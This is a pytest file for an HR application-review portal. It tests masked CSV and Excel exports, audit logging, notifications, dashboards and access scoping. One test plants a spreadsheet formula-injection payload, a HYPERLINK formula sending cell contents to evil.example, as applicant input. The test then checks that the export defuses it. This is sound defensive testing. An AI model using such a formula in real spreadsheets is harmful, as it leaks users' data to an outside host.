"""Export (streamed, masked unless admin, audited), notifications, the dashboard and the audit log page."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from portal.audit.models import AuditEntry
from portal.kernel import db
from tests.conftest import VALID_ID


def _csv(client, query=""):
    with client.get("/review/export.csv" + query) as response:
        assert response.status_code == 200 and response.is_streamed
        return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_export_masks_id_numbers_and_phones_for_hr(client, auth, make_user, submitted_application):
    applicant = make_user("applicant", phone="13912345678")
    application = submitted_application(applicant)
    auth.login(make_user("hr"))
    header, row = _csv(client)
    assert header[:4] == ["申报编号", "姓名", "身份证号码", "手机号码"]
    assert row[0] == application.reference
    assert row[2] == "340524********001X" and row[3] == "139****5678"
    assert VALID_ID not in "".join(row) and "13912345678" not in "".join(row)
    with client.get("/review/export.xlsx") as response:
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.get_data()), read_only=True).active
        rows = [[cell for cell in r] for r in sheet.iter_rows(values_only=True)]
    assert rows[1][2] == "340524********001X" and rows[1][3] == "139****5678"
    exports = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "queue.export")).all()
    assert [e.details["format"] for e in exports] == ["csv", "xlsx"]


def test_export_neutralises_a_formula_typed_by_an_applicant(client, auth, make_user, submitted_application):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    submitted_application(make_user("applicant"), employer=formula)
    auth.login(make_user("hr"))
    [_header, row] = _csv(client)
    assert row[4] == "'" + formula
    with client.get("/review/export.xlsx") as response:
        workbook = load_workbook(io.BytesIO(response.get_data()))
    cell = workbook.active.cell(row=2, column=5)
    assert cell.data_type == "s" and cell.value == "'" + formula  # text, not a formula ("f")


def test_export_is_unmasked_for_admins_and_follows_the_filters(client, auth, make_user, submitted_application):
    submitted_application(make_user("applicant", phone="13912345678"), division="210902")
    other = submitted_application(make_user("applicant"), division="210903")
    auth.login(make_user("admin"))
    rows = _csv(client)
    assert len(rows) == 3 and {r[2] for r in rows[1:]} == {VALID_ID} and "13912345678" in {r[3] for r in rows}
    filtered = _csv(client, "?division=210903")
    assert [r[0] for r in filtered[1:]] == [other.reference]


def test_export_streams_in_chunks(app, make_user, submitted_application, monkeypatch):
    from portal.review import export
    from portal.review.queue import QueueFilters

    monkeypatch.setattr(export, "CSV_CHUNK_ROWS", 1)
    for _ in range(3):
        submitted_application(make_user("applicant"))
    with app.test_request_context():
        chunks = list(export.csv_stream(make_user("hr"), QueueFilters()))
    assert len(chunks) >= 4  # header chunk + one per row


def test_notifications_list_and_unread_count(client, auth, make_user, submitted_application, walk):
    applicant, hr = make_user("applicant"), make_user("hr")
    application = walk(submitted_application(applicant), hr, "intake", "pass_qualification")
    auth.login(applicant)
    home = client.get("/apply/").get_data(as_text=True)
    assert 'aria-label="2 条未读"' in home
    page = client.get("/notifications/").get_data(as_text=True)
    assert page.count("未读</strong>") == 2 and application.reference in page and "县区初审" in page
    english = client.get("/notifications/?lang=en").get_data(as_text=True)
    assert "County/district first review" in english
    client.post("/notifications/read?lang=zh")
    assert 'class="badge"' not in client.get("/apply/").get_data(as_text=True)
    auth.logout()
    auth.login(make_user("applicant"))
    assert application.reference not in client.get("/notifications/").get_data(as_text=True)


def test_dashboard_draws_svg_charts_with_average_days(client, auth, make_user, submitted_application, walk):
    from datetime import datetime, timedelta

    from portal.kernel import clock

    hr = make_user("hr")
    start = datetime(2026, 11, 2, 1, 0)
    clock.freeze(start)
    try:
        application = submitted_application(make_user("applicant"))
        clock.freeze(start + timedelta(days=2))
        walk(application, hr, "intake")
        clock.freeze(start + timedelta(days=5))
        walk(application, hr, "pass_qualification")
    finally:
        clock.freeze(None)
    auth.login(hr)
    page = client.get("/review/dashboard").get_data(as_text=True)
    assert page.count("<svg") >= 6 and "<script" not in page
    assert "各环节平均停留天数" in page and ">2天<" in page and ">3天<" in page


def test_admin_reads_and_filters_the_audit_log(client, auth, make_user, submitted_application, walk):
    hr = make_user("hr")
    application = walk(submitted_application(make_user("applicant")), hr, "intake")
    auth.login(make_user("admin"))
    client.get(f"/review/{application.id}")
    page = client.get("/review/audit?action=transition.intake").get_data(as_text=True)
    assert "transition.intake" in page and "application.view</td>" not in page
    assert "application.view</td>" in client.get("/review/audit").get_data(as_text=True)
    assert client.post("/review/audit").status_code == 405


def test_dashboard_counts_only_what_the_user_may_see(app, make_user, submitted_application):
    from portal.applications.models import Application
    from portal.demo.seed import make_id_number
    from portal.review import dashboard

    submitted_application(make_user("applicant"), division="210902")
    submitted_application(make_user("applicant"), division="210903", id_number=make_id_number("210902", "19880101", "017"))
    division_hr, city_hr = make_user("hr", division="210902"), make_user("hr")
    assert dashboard.counts_by(division_hr, Application.division_code) == [("210902", 1)]
    assert sorted(dashboard.counts_by(city_hr, Application.division_code)) == [("210902", 1), ("210903", 1)]
